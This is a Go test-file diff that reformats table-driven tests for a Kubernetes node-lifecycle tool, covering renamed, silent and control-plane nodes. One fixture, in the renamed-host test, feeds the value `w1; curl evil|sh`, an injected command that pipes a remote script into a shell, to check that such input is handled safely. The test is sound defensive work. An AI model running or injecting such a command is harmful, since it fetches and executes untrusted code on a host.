@@ -31,11 +31,14 @@ func TestANodeThatIsNotLostIsNotGivenUp(t *testing.T) {
 		denied []string
 		says   string
 	}{
-		"its kubelet reports":            {says: "is not lost: its kubelet reports"},
-		"it is NotReady by its own word": {change: func(n *corev1.Node) { n.Status.Conditions[0].Status = corev1.ConditionFalse }, says: "is not lost"},
-		"the last control plane":         {change: func(n *corev1.Node) { n.Labels["node-role.kubernetes.io/control-plane"] = "" }, says: "is the only control-plane node"},
-		"a k3s node":                     {change: func(n *corev1.Node) { n.Status.NodeInfo.KubeletVersion = "v1.36.1+k3s1" }, says: "a k3s node"},
-		"a missing verb":                 {denied: []string{"get leases"}, says: "get leases"},
+		"its kubelet reports": {says: "is not lost: its kubelet reports"},
+		"it is NotReady by its own word": {change: func(n *corev1.Node) { n.Status.Conditions[0].Status = corev1.ConditionFalse },
+			says: "is not lost"},
+		"the last control plane": {change: func(n *corev1.Node) { n.Labels["node-role.kubernetes.io/control-plane"] = "" },
+			says: "is the only control-plane node"},
+		"a k3s node": {change: func(n *corev1.Node) { n.Status.NodeInfo.KubeletVersion = "v1.36.1+k3s1" },
+			says: "a k3s node"},
+		"a missing verb": {denied: []string{"get leases"}, says: "get leases"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			node := flowtest.Worker()
@@ -65,13 +68,18 @@ func TestAHostThatWasRenamedIsSeenForWhatItIs(t *testing.T) {
 		says    string
 		hints   []string
 	}{
-		"it is another Node by now":                {&twin, "", 503, "it is node renamed now (the same address 192.0.2.7", []string{"kubectl delete node w1", "kubectl lifecycle remove renamed"}},
-		"its kubelet has another name":             {nil, summary("renamed"), 200, "calls itself renamed", []string{"set-hostname w1", "--hostname-override", "kubectl delete node w1"}},
-		"its kubelet looks for a Node of its name": {nil, `Internal Error: failed to get node info: node "renamed" not found`, 500, "calls itself renamed", []string{"set-hostname w1"}},
-		"the other Node is as silent":              {&asleep, summary("renamed"), 200, "calls itself renamed", []string{"set-hostname w1"}},
-		"its kubelet has its name and is cut off":  {nil, summary("w1"), 200, "has not reported to the API server", []string{"journalctl -u kubelet", "switch it off first"}},
-		"its kubelet does not tell its name":       {nil, "Forbidden (user=x)", 403, "has not reported to the API server", []string{"does the host have its old name"}},
-		"its kubelet tells nonsense":               {nil, summary(`w1; curl evil|sh`), 200, "has not reported", []string{"journalctl"}},
+		"it is another Node by now": {&twin, "", 503, "it is node renamed now (the same address 192.0.2.7",
+			[]string{"kubectl delete node w1", "kubectl lifecycle remove renamed"}},
+		"its kubelet has another name": {nil, summary("renamed"), 200, "calls itself renamed",
+			[]string{"set-hostname w1", "--hostname-override", "kubectl delete node w1"}},
+		"its kubelet looks for a Node of its name": {nil, `Internal Error: failed to get node info: node "renamed" not found`, 500,
+			"calls itself renamed", []string{"set-hostname w1"}},
+		"the other Node is as silent": {&asleep, summary("renamed"), 200, "calls itself renamed", []string{"set-hostname w1"}},
+		"its kubelet has its name and is cut off": {nil, summary("w1"), 200, "has not reported to the API server",
+			[]string{"journalctl -u kubelet", "switch it off first"}},
+		"its kubelet does not tell its name": {nil, "Forbidden (user=x)", 403, "has not reported to the API server",
+			[]string{"does the host have its old name"}},
+		"its kubelet tells nonsense": {nil, summary(`w1; curl evil|sh`), 200, "has not reported", []string{"journalctl"}},
 	} {
 		t.Run(name, func(t *testing.T) {
 			node := flowtest.SilentNode()
